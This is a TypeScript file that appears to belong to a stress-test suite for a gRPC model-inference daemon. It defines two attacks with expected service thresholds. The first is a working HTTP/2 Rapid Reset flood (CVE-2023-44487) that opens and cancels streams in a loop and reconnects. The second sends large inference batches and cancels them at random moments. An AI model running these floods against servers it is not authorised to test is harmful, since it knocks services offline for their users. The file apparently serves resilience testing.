/** Calls that are given up as soon as they are made. */
import { constants, type ClientHttp2Session } from 'node:http2'
import { ModelInferRequest } from '../../../src/generated/grpc_service.js'
import type { Attack } from '../attack.js'
import { frame, open } from '../wire.js'

const MIB = 2 ** 20
const turn = (): Promise<void> => new Promise((resolve) => setImmediate(resolve))

/** CVE-2023-44487, with a new connection wherever the daemon ends one. */
export const rapidReset: Attack = {
  name: 'rapid-reset',
  what: 'streams opened and reset as fast as one client can, with reconnects',
  promised: { answered: 0.9, probeMs: 1000, growthBytes: 256 * MIB },
  run: async (target, signal) => {
    let session: ClientHttp2Session | null = null
    while (!signal.aborted) {
      if (session === null || session.destroyed || session.closed) session = target.connect(signal)
      for (let i = 0; i < 50 && !session.destroyed && !session.closed; i++) {
        open(session).close(constants.NGHTTP2_CANCEL)
      }
      await turn()
    }
  },
}

/** Whole requests of 32 rows that are cancelled at random instants of their way. */
export const cancels: Attack = {
  name: 'cancels',
  what: 'batches of 32 rows of a 4D network, cancelled at random instants',
  promised: { answered: 0.9, probeMs: 1000, growthBytes: 512 * MIB },
  run: async (target, signal) => {
    const message = frame(
      ModelInferRequest.encode({
        ...ModelInferRequest.fromPartial({
          modelName: 'lymph4d',
          inputs: [
            { name: 'image', datatype: 'FP32', shape: [32n, 1n, 5n, 16n, 16n, 16n] },
            { name: 'clinical', datatype: 'FP32', shape: [32n, 5n] },
          ],
        }),
        rawInputContents: [new Uint8Array(32 * 5 * 16 ** 3 * 4), new Uint8Array(32 * 5 * 4)],
      }).finish(),
    )
    const session = target.connect(signal)
    const lane = async (seed: number): Promise<void> => {
      for (let i = seed; !signal.aborted && !session.destroyed; i++) {
        const stream = open(session)
        const closed = new Promise<void>((resolve) => stream.once('close', resolve))
        stream.resume()
        stream.end(message)
        setTimeout(() => stream.close(constants.NGHTTP2_CANCEL), 5 + ((i * 7919) % 60))
        await closed
      }
    }
    await Promise.all([1, 2, 3].map(lane))
  },
}
